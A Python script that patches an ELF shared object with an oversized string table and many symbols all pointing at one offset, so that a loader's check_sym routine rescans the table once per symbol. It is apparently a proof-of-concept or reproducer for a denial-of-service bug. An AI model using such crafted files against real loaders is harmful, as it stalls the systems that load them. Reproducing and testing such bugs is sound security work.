#!/usr/bin/env python3
"""longstr_patch.py IN.so OUT.so NSYMS STRMB: appends a .symtab of NSYMS
local symbols that all have st_name 0 and a string table of STRMB MiB of
'A' with a single NUL at its end, and points the .symtab section header (and
its sh_link string table header) at them. check_sym (elf_check.c) runs
memchr(str + st_name, 0, strsz - st_name) for every symbol: NSYMS full scans
of the string table before the module is refused or loaded."""
import struct
import sys

src, dst, nsyms, mb = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
d = bytearray(open(src, "rb").read())
shoff, = struct.unpack_from("<Q", d, 0x28)
shentsize, shnum = struct.unpack_from("<HH", d, 0x3A)
SHT_SYMTAB = 2
for i in range(shnum):
    off = shoff + i * shentsize
    sh_type, = struct.unpack_from("<I", d, off + 4)
    if sh_type != SHT_SYMTAB:
        continue
    link, = struct.unpack_from("<I", d, off + 40)
    # the new string table
    while len(d) % 8:
        d.append(0)
    str_off = len(d)
    d += b"A" * (mb << 20) + b"\0"
    while len(d) % 8:
        d.append(0)
    sym_off = len(d)
    d += bytes(24)  # symbol 0
    for k in range(1, nsyms):
        # st_name 0, st_info STB_LOCAL|STT_NOTYPE, st_shndx SHN_ABS, value 0
        d += struct.pack("<IBBHQQ", 0, 0, 0, 0xFFF1, 0, 0)
    struct.pack_into("<QQ", d, off + 24, sym_off, 24 * nsyms)
    loff = shoff + link * shentsize
    struct.pack_into("<QQ", d, loff + 24, str_off, (mb << 20) + 1)
    break
open(dst, "wb").write(d)
